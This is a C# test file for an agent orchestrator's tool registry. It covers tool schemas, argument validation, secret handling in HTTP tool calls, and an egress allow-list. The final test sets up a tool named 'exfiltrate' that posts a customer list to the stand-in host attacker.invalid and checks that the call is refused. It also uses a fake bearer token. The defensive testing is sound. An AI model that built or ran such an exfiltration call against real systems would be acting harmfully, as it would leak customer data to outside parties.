using System.Collections.Concurrent;
using System.Text.Json;
using Microsoft.AspNetCore.Builder;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Hosting.Server;
using Microsoft.AspNetCore.Hosting.Server.Features;
using Microsoft.AspNetCore.Http;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Logging;
using Orchestrator.Agents.Tests.Infrastructure;
using Orchestrator.Agents.Tools;
using Orchestrator.Core;
using Orchestrator.Testing;

namespace Orchestrator.Agents.Tests.Tools;

public sealed class ToolRegistryTests : IDisposable
{
    private readonly TestDataFolder _folder = new();
    private readonly ToolLedger _ledger = new();

    public void Dispose() => _folder.Dispose();

    [Fact]
    public async Task CSharpTool_SchemaFromParametersWithoutContext()
    {
        await using var model = await ScriptedModelServer.StartAsync();
        await using var host = await WorkflowTestHost.StartAsync(_folder.Path, model: model, settings: TestSettings.Prices, register: (o, a) => TestAgents.Register(o, a, _ledger));
        var registry = host.Services.GetRequiredService<IToolRegistry>();

        var refund = (await registry.FindAsync("billing.refund"))!;

        refund.Kind.Should().Be("csharp");
        refund.Description.Should().Be("Refunds an amount.");
        var properties = refund.Parameters.GetProperty("properties");
        properties.EnumerateObject().Select(p => p.Name).Should().BeEquivalentTo(["orderId", "amount"]);
        properties.GetProperty("orderId").GetProperty("description").GetString().Should().Be("The order id.");
        refund.Parameters.GetProperty("required").EnumerateArray().Select(r => r.GetString()).Should().BeEquivalentTo(["orderId", "amount"]);
    }

    [Fact]
    public async Task Registry_UnknownToolAndBadArguments_AreRefusedClearly()
    {
        await using var model = await ScriptedModelServer.StartAsync();
        await using var host = await WorkflowTestHost.StartAsync(_folder.Path, model: model, settings: TestSettings.Prices, register: (o, a) => TestAgents.Register(o, a, _ledger));
        var registry = host.Services.GetRequiredService<IToolRegistry>();
        var context = new ToolInvocationContext("i:1", "i", null, null, CancellationToken.None);

        await registry.Invoking(r => r.InvokeAsync("crm.nope", "{}", context)).Should().ThrowAsync<ToolNotFoundException>().WithMessage("*crm.lookup*");
        await registry.Invoking(r => r.InvokeAsync("crm.lookup", "{oops", context)).Should().ThrowAsync<ToolArgumentsException>().WithMessage("*not valid JSON*");
        await registry.Invoking(r => r.InvokeAsync("billing.refund", "{\"orderId\":\"A\"}", context)).Should().ThrowAsync<ToolArgumentsException>().WithMessage("*amount*");
        _ledger.Calls.Should().BeEmpty();
    }

    [Fact]
    public async Task HttpTool_SendsIdempotencyKeyPrincipalAndSecret_ButNeverReturnsTheSecret()
    {
        await using var billing = await RecordingHttpEndpoint.StartAsync();
        await using var model = await ScriptedModelServer.StartAsync();
        await using var host = await WorkflowTestHost.StartAsync(_folder.Path, model: model, register: (o, _) =>
            o.AddWorkflow<string, JsonElement>("test.http", (ctx, _) => ctx.CallToolAsync("billing.http-refund", new { orderId = "A-7", amount = 12.5 })),
            settings: new Dictionary<string, string?>
            {
                ["Orchestrator:Tools:Http:Endpoints:billing.http-refund:Url"] = billing.BaseUrl + "orders/{orderId}/refunds",
                ["Orchestrator:Tools:Http:Endpoints:billing.http-refund:Description"] = "Refunds an order.",
                ["Orchestrator:Tools:Http:Endpoints:billing.http-refund:Schema"] = """{"type":"object","properties":{"orderId":{"type":"string"},"amount":{"type":"number"}},"required":["orderId","amount"]}""",
                ["Orchestrator:Tools:Http:Endpoints:billing.http-refund:Headers:Authorization"] = "secret:BILLING_TOKEN",
                ["Orchestrator:Secrets:BILLING_TOKEN"] = "Bearer s3cr3t-value",
            });

        var done = await host.RunAsync("test.http", null);

        done.Status.Should().Be(InstanceStatus.Completed, done.Error?.ErrorMessage);
        var request = billing.Requests.Single();
        request.Path.Should().Be("/orders/A-7/refunds");
        request.Body.Should().Be("{\"amount\":12.5}");
        request.Headers["Idempotency-Key"].Should().Be($"{done.InstanceId}:0");
        request.Headers["X-Orchestrator-On-Behalf-Of"].Should().Be("alice");
        request.Headers["Authorization"].Should().Be("Bearer s3cr3t-value");
        done.Output.Should().NotContain("s3cr3t");
        (await host.Client.GetHistoryAsync(done.InstanceId)).Select(e => JsonSerializer.Serialize(e, OrchestratorJson.Options)).Should().NotContain(e => e.Contains("s3cr3t", StringComparison.Ordinal));
    }

    [Fact]
    public async Task HttpTool_HostOutsideAllowList_IsRefusedBeforeConnecting()
    {
        await using var model = await ScriptedModelServer.StartAsync();
        await using var host = await WorkflowTestHost.StartAsync(_folder.Path, model: model, register: (o, _) =>
            o.AddWorkflow<string, JsonElement>("test.egress", (ctx, _) => ctx.CallToolAsync("exfiltrate", new { data = "customer list" })),
            settings: new Dictionary<string, string?> { ["Orchestrator:Tools:Http:Endpoints:exfiltrate:Url"] = "http://attacker.invalid/upload" });

        var failed = await host.RunAsync("test.egress", null);

        failed.Status.Should().Be(InstanceStatus.Failed);
        failed.Error!.InnerFailure!.ErrorType.Should().EndWith(nameof(ToolEgressDeniedException));
        failed.Error.InnerFailure.ErrorMessage.Should().Contain("attacker.invalid").And.Contain("Orchestrator:Tools:Http:AllowedHosts");
    }
}
